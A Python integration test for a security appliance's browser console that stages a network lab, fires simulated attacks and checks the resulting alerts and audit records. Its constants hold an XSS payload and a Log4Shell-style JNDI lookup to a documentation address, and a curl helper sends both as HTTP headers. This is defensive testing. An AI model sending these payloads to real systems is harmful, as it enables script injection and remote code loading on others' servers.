#!/usr/bin/env python3
"""The console in a browser, over the real daemons with real traffic (browser.mjs does what people do).

    console_test.py PROGRAMS PAGES [SCREENSHOTS]

Skipped (77) without root, Chromium, the pages or their test packages; in CI that is a failure.
"""
import json
import os
import pathlib
import shutil
import subprocess
import sys

HERE = pathlib.Path(__file__).resolve().parent
REPOSITORY = HERE.parents[1]
sys.path.insert(0, str(REPOSITORY / "tests" / "netns"))

from appliance import DEMO_POLICY, DEMO_RULES, Appliance  # noqa: E402
from lab import SKIPPED, Lab, skip_unless_possible, wait_until  # noqa: E402
from servers import Client, WebServer  # noqa: E402

WEB = REPOSITORY / "console" / "web"
# What an attacker might send to whoever looks at the alert.
SCRIPT = "<img src=x onerror=window.menshenScriptRan=1><script>window.menshenScriptRan=1</script>"
LOOKUP = "${jndi:ldap://203.0.113.10/a}"
BROKEN_RULE = 'alert tcp any any -> any any (msg:"not loaded"; no_such_keyword:1; sid:9999001; rev:1;)\n'


def skip(reason):
    print(f"skipped: {reason}")
    sys.exit(1 if os.environ.get("CI") == "true" else SKIPPED)


def attack(lab, path):
    portal = lab.hosts["portal"].v4
    return ["curl", "-sS", "-g", "-o", "/dev/null", "--max-time", "3", "--noproxy", "*", "-H", f"X-Api-Version: {LOOKUP}",
            "-H", f"User-Agent: {SCRIPT}", f"http://{portal}/{path}"]


def main():
    programs, pages = (pathlib.Path(argument).resolve() for argument in sys.argv[1:3])
    screenshots = pathlib.Path(sys.argv[3] if len(sys.argv) > 3 else REPOSITORY / "build" / "console" / "screenshots")
    skip_unless_possible(programs)
    if not shutil.which("chromium"):
        skip("needs chromium")
    if not (pages / "index.html").exists():
        skip(f"no pages in {pages}")
    if not (WEB / "node_modules" / "playwright-core").exists():
        skip("needs the pages' test packages (npm ci in console/web)")
    screenshots.mkdir(parents=True, exist_ok=True)
    with Lab() as lab:
        rules = lab.root / "rules" / "broken.rules"
        rules.parent.mkdir()
        rules.write_text(BROKEN_RULE)
        WebServer(lab, "portal")
        WebServer(lab, "tax")
        appliance = Appliance(lab, programs, rules=(DEMO_RULES, rules), settings={
            "console.state_directory": str(lab.root / "state" / "console"),
            "console.pages": str(pages),
            "policy.four_eyes": False,
        })
        appliance.start()
        appliance.run("policy", "apply", DEMO_POLICY)
        finance = Client(lab, "finance")
        finance.http(f"http://{lab.hosts['tax'].v4}/")
        lab.run("finance", attack(lab, "first"), check=False)
        appliance.await_record("the first attack", "--sid", "9000001")
        appliance.await_record("the isolation violation", "--kind", "isolation")
        # Without hosts over SSH: the appliance alone.
        done = appliance.run("comply", "report", "--no-hosts", check=False, timeout=300)
        console = lab.start("gate", [programs / "menshen-consoled", "--settings", appliance.settings_file], notify=True)
        code = appliance.run("console", "setup").stdout.strip()
        environment = dict(
            os.environ, MENSHEN_CODE=code, MENSHEN_URL="https://127.0.0.1:8443", MENSHEN_SCREENSHOTS=str(screenshots),
            MENSHEN_WEB=str(WEB), MENSHEN_ATTACK=json.dumps(lab.inside("finance", attack(lab, "second"))),
            MENSHEN_SCRATCH=str(lab.root), MENSHEN_POLICY=str(DEMO_POLICY))
        browser = subprocess.run(lab.inside("gate", ["/usr/bin/node", HERE / "browser.mjs"]), env=environment, timeout=540,
                                 check=False)
        if browser.returncode != 0:
            print(f"comply report: {done.returncode}\n---- console\n{console.tail(40)}")
            sys.exit(1)
        for act in ("console.sign_in", "console.setup", "console.audit.export", "console.policy.apply"):
            wait_until(lambda act=act: appliance.find("--action", act, "--limit", 1), f"the record {act}")
        applied = appliance.find("--action", "policy.apply", "--limit", 1)[0]
        assert applied["subject"] == "security.li (console)", applied
        status = console.stop()
        assert status == 0, f"consoled ended with {status}\n{console.tail()}"
        assert "初始化码" not in console.output() and code not in console.output()
        appliance.stop()


main()
